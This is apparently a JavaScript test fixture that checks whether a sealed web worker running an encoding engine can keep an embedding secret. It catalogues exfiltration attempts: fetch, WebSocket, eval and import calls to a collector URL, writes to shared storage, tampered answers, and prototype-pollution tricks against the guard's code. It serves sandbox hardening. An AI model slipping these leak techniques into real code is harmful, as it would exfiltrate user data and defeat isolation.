// biome-ignore-all lint/suspicious/noTemplateCurlyInString: bodies of functions, as text.
// What hostile code inside the sealed worker tries. Each entry is the body of an async function (secret, url, answer): `secret` is an
// embedding as text, `url` a collector's address for this attempt, `answer` the engine's answer, which the attempt may change.

/** Over the network: the collector sees the secret, or for datagrams that there was one at all. */
export const network = {
  fetch: 'await fetch(url + secret)',
  'fetch, no-cors, in the body': "await fetch(url, { method: 'POST', mode: 'no-cors', body: secret })",
  'fetch, kept alive': 'await fetch(url + secret, { keepalive: true })',
  'fetch from the prototype of the scope':
    'await Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, url + secret)',
  XMLHttpRequest: "const request = new XMLHttpRequest(); request.open('GET', url + secret); request.send()",
  WebSocket: "new WebSocket(url.replace('http', 'ws') + secret)",
  EventSource: 'new EventSource(url + secret)',
  WebTransport: "await new WebTransport(udp.replace('stun', 'https') + '/' + secret).ready",
  importScripts: 'importScripts(url + secret)',
  'dynamic import': 'await import(url + secret)',
  'dynamic import of code': 'await import(`data:text/javascript,fetch("${url}${secret}")`)',
  'nested worker from a blob': 'new Worker(URL.createObjectURL(new Blob([`fetch("${url}${secret}")`])))',
  'nested worker from data': 'new Worker(`data:text/javascript,fetch("${url}${secret}")`)',
  'code by new Function': 'new Function(`fetch("${url}${secret}")`)()',
  'code by indirect eval': '(0, eval)(`fetch("${url}${secret}")`)',
  'code by an async function constructor': '(async () => {}).constructor(`await fetch("${url}${secret}")`)()',
  'code by a string timer': 'setTimeout(`fetch("${url}${secret}")`)',
  font: 'await new FontFace("leak", `url(${url}${secret})`).load()',
  'cache filling': "await (await caches.open('leak')).add(url + secret)",
  'streaming compilation': 'await WebAssembly.compileStreaming(fetch(url + secret))',
  'content security policy report': 'await fetch(reported + secret)',
};

/** Into storage that the page's origin shares: the page looks for it there. */
export const storage = {
  'indexed database': `const open = indexedDB.open('leak-idb', 1);
    open.onupgradeneeded = () => open.result.createObjectStore('s');
    open.onsuccess = () => open.result.transaction('s', 'readwrite').objectStore('s').put(secret, 'k')`,
  cache: "await (await caches.open('leak-cache')).put('/leak', new Response(secret))",
  'private file system': `const root = await navigator.storage.getDirectory();
    const file = await (await root.getFileHandle('leak', { create: true })).createWritable();
    await file.write(secret); await file.close()`,
  'broadcast channel': "new BroadcastChannel('leak').postMessage(secret)",
  'name of a lock': 'navigator.locks.request(secret, () => new Promise(() => {}))',
};

/** Through the answer: what the page is handed is searched for the secret. */
export const answers = {
  'one more output': 'answer.outcome.value.outputs.push(all[0]); return answer',
  'another output in place of the codes': 'answer.outcome.value.outputs[0] = all[0]; return answer',
  'one more field': 'answer.outcome.value.note = secret; return answer',
  'one more field of a tensor': 'answer.outcome.value.outputs[0].note = secret; return answer',
  'property of an array': 'answer.outcome.value.outputs[0].dims.note = secret; return answer',
  'rest of a larger buffer': `const { data } = answer.outcome.value.outputs[0];
    const room = new Uint8Array(data.byteLength + 1024);
    room.set(new Uint8Array(data.buffer)); for (let i = 0; i < secret.length; i++) room[data.byteLength + i] = secret.charCodeAt(i);
    answer.outcome.value.outputs[0].data = new BigInt64Array(room.buffer, 0, data.length);
    return { outcome: answer.outcome, transfer: [room.buffer] }`,
  'words of an error': "return { outcome: { ok: false, code: 'internal', message: secret }, transfer: [] }",
  'code of an error': "return { outcome: { ok: false, code: secret, message: '' }, transfer: [] }",
  exception:
    'try { queueMicrotask(() => { throw new Error(secret) }) } catch { throw new Error(secret) } return answer',
  'time that was measured': 'answer.outcome.value.milliseconds = secret; return answer',
};

/** Through the guard's own code, which runs in the same realm: by changing the language that it is written in. */
export const realm = {
  'a method of lists': `const { map } = Array.prototype;
    Array.prototype.map = function (...args) {
      const list = map.apply(this, args);
      return list[0]?.dims ? [all[0]] : list;
    };
    return answer`,
  'a method of typed arrays': `const { data } = answer.outcome.value.outputs[0];
    const room = new BigInt64Array(data.length + 1); room.set(data);
    answer.outcome.value.outputs[0].data = room.subarray(0, data.length);
    Object.getPrototypeOf(BigInt64Array.prototype).slice = () => all[0].data;
    return answer`,
  'a function of the language': `const genuine = Number;
    class Extent { constructor(value) { this.note = secret; Object.defineProperty(this, 'valueOf', { value: () => value }); } }
    globalThis.Number = Object.assign((value) => (value === 1 ? 1 : new Extent(value)), {
      isInteger: () => true, isFinite: genuine.isFinite, isSafeInteger: genuine.isSafeInteger });
    return answer`,
  promises: `const { then } = Promise.prototype;
    const taint = (value) => { if (value?.message) value.message.note = secret; return value; };
    Object.defineProperty(Promise.prototype, 'constructor', { get: () => class {} });
    Promise.prototype.then = function (done, failed) { return then.call(this, (value) => done(taint(value)), failed); };
    return answer`,
  'an accessor of every object': `Object.defineProperty(Object.prototype, 'then', {
      get() { if (this.message && this.transfer) this.message.note = secret; return undefined; } });
    return answer`,
};

const asFunction = (body) => `async (secret, url, answer, all) => {${body}}`;

/**
 * The engine with attempts in it, for the sealed worker. The first recording sets off the loud ones, over network and storage; every
 * further one has one of the quiet ones, in turn, look after its answer; then the first code is the number of loud attempts that were made.
 * @param {string} engine text of sealed-engine.js @param {{ url: string, udp: string, reported: string }} collector
 * @param {Record<string, string>} loudly @param {Record<string, string>} quietly
 */
export function hostileEngine(
  engine,
  { url, udp, reported },
  loudly = { ...network, ...storage },
  quietly = { ...answers, ...realm },
) {
  const entries = (attempts) =>
    Object.entries(attempts).map(([name, body]) => {
      const address = `${url}/leak?attempt=${encodeURIComponent(name)}&d=`;
      return `[${JSON.stringify(address)}, ${asFunction(body)}]`;
    });
  return `'use strict';
const udp = ${JSON.stringify(udp)};
const reported = ${JSON.stringify(`${reported}?attempt=content%20security%20policy%20report&d=`)};
const loud = [${entries(loudly).join(',\n')}];
const quiet = [${entries(quietly).join(',\n')}];
let calls = 0;
let ran = 0;
((edgySeal) => {${engine}
})({
  almost: edgySeal.almost,
  serve(handle) {
    edgySeal.serve(async (operation, request) => {
      if (operation !== 'encode') return handle(operation, request);
      const everything = await handle(operation, { pcm: request.pcm, mel: request.mel });
      if (!everything.outcome.ok) return everything;
      const all = everything.outcome.value.outputs;
      const secret = 'secret-' + Array.from(new Uint8Array(all[0].data.buffer, 0, 32), (b) => b.toString(16).padStart(2, '0')).join('');
      const outputs = request.fetches.map((index) => all[index]);
      const answer = { outcome: { ok: true, value: { ...everything.outcome.value, outputs } }, transfer: [] };
      const call = calls++;
      if (call > 0 && call <= quiet.length) return quiet[call - 1][1](secret, '', answer, all);
      if (call === 0) {
        for (const [address, attempt] of loud) {
          attempt(secret, address, answer, all).catch(() => {});
          ran++;
        }
      }
      // Codes are the one thing that goes out: by them the test learns that every attempt was made.
      if (call > quiet.length) outputs[0].data[0] = BigInt(ran);
      return answer;
    });
  },
});
`;
}

/** What stands in for the prelude when the seal is off. */
export const loosePrelude = `var edgySeal = { almost() {}, serve(handle) {
  self.onmessage = async ({ data: { id, operation, request } }) => {
    const { outcome, transfer } = await handle(operation, request);
    self.postMessage({ id, outcome }, transfer);
  };
} };
`;
